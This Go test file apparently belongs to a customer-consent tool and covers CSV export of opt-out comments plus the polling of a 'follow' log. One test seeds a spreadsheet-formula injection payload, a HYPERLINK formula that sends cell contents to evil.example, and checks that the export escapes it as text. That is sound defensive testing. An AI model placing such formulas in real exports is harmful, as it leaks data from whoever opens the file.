package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/courtesyhq/courtesy"
)

// Opt-out comments are the customer's own words; in a CSV an owner opens in
// a spreadsheet, one that reads as a formula must stay text, in the first
// table and in the rows a follow adds.
func TestLogCSVWritesFormulasAsText(t *testing.T) {
	s := newShop(t, "", "")
	comment := `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	db := s.db()
	ctx := context.Background()
	t0 := time.Now().UTC().Add(-time.Hour).Truncate(time.Second)
	if errs, err := db.UpsertCustomers(ctx, []courtesy.Customer{{ID: "jo", Email: "jo@example.org", CreatedAt: t0}}); err != nil || errs[0] != nil {
		t.Fatalf("seed: %v %v", err, errs)
	}
	if _, err := db.Withdraw(ctx, courtesy.ConsentRecord{CustomerID: "jo", Purpose: "birthday", Source: "link", RecordedAt: t0},
		courtesy.OptOut{Reason: "other", Comment: comment}); err != nil {
		t.Fatal(err)
	}
	db.Close()

	code, out, errOut := s.run("", "log", "optouts", "--format", "csv")
	if code != exitOK {
		t.Fatalf("log: exit %d: %s", code, errOut)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("log output is not CSV: %v\n%s", err, out)
	}
	if len(rows) != 2 || rows[0][len(rows[0])-1] != "comment" {
		t.Fatalf("log optouts:\n%s", out)
	}
	if got, want := rows[1][len(rows[1])-1], "'"+comment; got != want {
		t.Errorf("comment cell = %q, want %q", got, want)
	}

	var follow bytes.Buffer
	tb := &table{header: []string{"time", "comment"}, rows: [][]string{{"2026-11-28 09:30:00Z", comment}}}
	if err := tb.writeRows(&follow, "csv"); err != nil {
		t.Fatal(err)
	}
	if want := `2026-11-28 09:30:00Z,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"` + "\n"; follow.String() != want {
		t.Errorf("followed rows = %q, want %q", follow.String(), want)
	}
}

// logRows stands in for a store listing: rows dated by their first cell,
// newest first, read from f.Since on.
type logRows struct {
	rows   []stamped
	asked  []courtesy.Filter
	header []string
}

type stamped struct {
	at  time.Time
	row []string
}

func (l *logRows) add(at time.Time, what string) {
	l.rows = append([]stamped{{at, []string{fmtTime(at), what}}}, l.rows...)
}

func (l *logRows) build(f courtesy.Filter) (*table, error) {
	l.asked = append(l.asked, f)
	t := &table{header: l.header}
	for _, r := range l.rows {
		if f.Since.IsZero() || !r.at.Before(f.Since) {
			if f.Limit > 0 && len(t.rows) == f.Limit {
				break
			}
			t.rows = append(t.rows, r.row)
		}
	}
	return t, nil
}

func TestFollowPrintsEachRowOnceAndLooksOnlyBehindTheLastLook(t *testing.T) {
	start := time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)
	l := &logRows{header: []string{"time", "what"}}
	l.add(start.Add(-2*time.Hour), "old")
	l.add(start.Add(-30*time.Second), "recent")

	first, _ := l.build(courtesy.Filter{CustomerID: "jo", Limit: 5})
	fl := newFollower(courtesy.Filter{CustomerID: "jo", Limit: 5}, first, start)
	var printed []string
	look := func(now time.Time) {
		t.Helper()
		fresh, err := fl.poll(now, l.build)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range fresh.rows {
			printed = append(printed, r[1])
		}
	}

	l.add(start.Add(time.Second), "a")
	look(start.Add(2 * time.Second))
	l.add(start.Add(3*time.Second), "b")
	l.add(start.Add(3*time.Second), "b") // the same row twice prints once
	look(start.Add(4 * time.Second))
	// Recorded after the last look but dated before it, within the slack.
	l.add(start.Add(3*time.Second+500*time.Millisecond), "late")
	look(start.Add(6 * time.Second))
	look(start.Add(8 * time.Second))
	// Long after: the early rows are out of the window and forgotten.
	look(start.Add(5 * time.Minute))
	l.add(start.Add(5*time.Minute+time.Second), "c")
	look(start.Add(5*time.Minute + 2*time.Second))
	// A clock stepped back does not bring the early rows back.
	look(start.Add(10 * time.Second))

	if diff := cmp.Diff([]string{"a", "b", "late", "c"}, printed); diff != "" {
		t.Errorf("printed (-want +got):\n%s", diff)
	}
	var since []time.Time
	for _, f := range l.asked[1:] {
		if f.Limit != 0 || f.CustomerID != "jo" {
			t.Errorf("look with filter %+v; want no limit, the customer kept", f)
		}
		since = append(since, f.Since)
	}
	wantSince := []time.Time{
		start.Add(-time.Minute),
		start.Add(2*time.Second - time.Minute),
		start.Add(4*time.Second - time.Minute),
		start.Add(6*time.Second - time.Minute),
		start.Add(8*time.Second - time.Minute),
		start.Add(5*time.Minute - time.Minute),
		start.Add(5*time.Minute + 2*time.Second - time.Minute),
	}
	if diff := cmp.Diff(wantSince, since); diff != "" {
		t.Errorf("looks started at (-want +got):\n%s", diff)
	}
	if len(fl.seen) != 1 {
		t.Errorf("after a quiet spell the follow remembers %d rows, want only the one in its window", len(fl.seen))
	}
}
